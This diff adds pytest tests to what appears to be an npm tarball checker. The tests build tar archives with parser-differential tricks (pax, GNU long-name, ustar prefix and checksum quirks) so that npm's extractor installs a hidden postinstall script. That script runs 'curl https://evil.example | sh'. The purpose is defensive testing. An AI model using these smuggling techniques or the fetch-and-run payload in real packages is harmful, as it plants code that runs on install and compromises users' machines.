@@ -326,3 +326,73 @@ def test_a_second_gzip_member_is_rejected(tmp_path: Path) -> None:
     pkg = read(data)
     assert pkg.unsafe and "after the end of its gzip stream" in pkg.problems[0], pkg.problems
     assert read(gz(tar_bytes([PKG])) + bytes(1024)).problems == []  # trailing zero padding is fine
+
+
+def _raw_header(
+    name: bytes, size: int, *, typ: bytes = b"0", prefix: bytes = b"", version: bytes = b"00", size_field: bytes = b""
+) -> bytearray:
+    h = bytearray(512)
+    h[0 : len(name)] = name
+    h[100:108], h[108:116], h[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
+    h[124:136] = size_field or b"%011o\0" % size
+    h[136:148] = b"00000000000\0"
+    h[156:157] = typ
+    h[257:263], h[263:265] = b"ustar\0", version
+    h[345 : 345 + len(prefix)] = prefix
+    return h
+
+
+def _sealed(h: bytearray, *, signed: bool = False) -> bytes:
+    h[148:156] = b" " * 8
+    total = sum((b - 256 if b > 127 else b) for b in h) if signed else sum(h)
+    h[148:156] = b"%06o\0 " % total
+    return bytes(h)
+
+
+def _raw(name: bytes, data: bytes, **kw) -> bytes:
+    signed = kw.pop("signed", False)
+    return _sealed(_raw_header(name, len(data), **kw), signed=signed) + data + bytes(-len(data) % 512)
+
+
+def _pax(records: list[bytes], typ: bytes = b"x") -> bytes:
+    body = b""
+    for rec in records:  # rec = b"key=value" (may hold anything)
+        tail = b" " + rec + b"\n"
+        n = len(tail) + len(str(len(tail) + 2))
+        n = len(tail) + len(str(n))
+        body += str(n).encode() + tail
+    return _raw(b"PaxHeader", body, typ=typ)
+
+
+_INSTALL_OK = b"console.log('benign')\n"
+_INSTALL_EVIL = b"require('child_process').exec('curl https://evil.example | sh')\n"
+_BASE = _raw(
+    b"package/package.json", package_json(scripts={"postinstall": "node install.js"}).encode()
+) + _raw(b"package/install.js", _INSTALL_OK)
+_EVIL_ENTRY = _raw(b"package/install.js", _INSTALL_EVIL)
+_SMUGGLED = {
+    "global-pax-path": _pax([b"path=package/CHANGELOG.md"], typ=b"g") + _EVIL_ENTRY,
+    "pax-then-gnu-long-name": _pax([b"path=package/CHANGELOG.md"])
+    + _raw(b"././@LongLink", b"package/install.js\0", typ=b"L")
+    + _raw(b"package/zzz", _INSTALL_EVIL),
+    "prefix-without-ustar-version": _raw(b"package/install.js", _INSTALL_EVIL, prefix=b"package", version=b"\0\0"),
+    "folder-with-data": _sealed(_raw_header(b"package/lib/", len(_EVIL_ENTRY), typ=b"5")) + _EVIL_ENTRY,
+    "entry-without-path": _sealed(_raw_header(b"", len(_EVIL_ENTRY))) + _EVIL_ENTRY,
+    "pax-value-with-newline": _pax([b"path=package/CHANGELOG.md\nx"]) + _EVIL_ENTRY,
+    "size-with-underscore": _sealed(_raw_header(b"package/README.md", 0, size_field=b"000000_2000\0")) + _EVIL_ENTRY,
+    "signed-checksum": _sealed(_raw_header("package/notes-é.md".encode(), len(_EVIL_ENTRY)), signed=True)
+    + _EVIL_ENTRY,
+}
+
+
+@pytest.mark.parametrize("vector", sorted(_SMUGGLED))
+def test_entries_npm_extracts_differently_are_rejected(vector: str, tmp_path: Path) -> None:
+    """Each archive makes npm's node-tar install the evil install.js that a naive reader takes for something else
+    (a data file, a folder's data, a skipped header): the reader must see the same, or reject the tarball."""
+    data = gz(_BASE + _SMUGGLED[vector] + bytes(1024))
+    assert len(data) < 8192
+    out = tmp_path / "out" / "install.js"
+    _node_tar_extract(data, tmp_path)
+    assert out.read_bytes() == _INSTALL_EVIL, "premise: npm's extractor installs the smuggled install.js"
+    pkg = read(data)
+    assert pkg.unsafe, (sorted(pkg.files), pkg.files["install.js"].data)
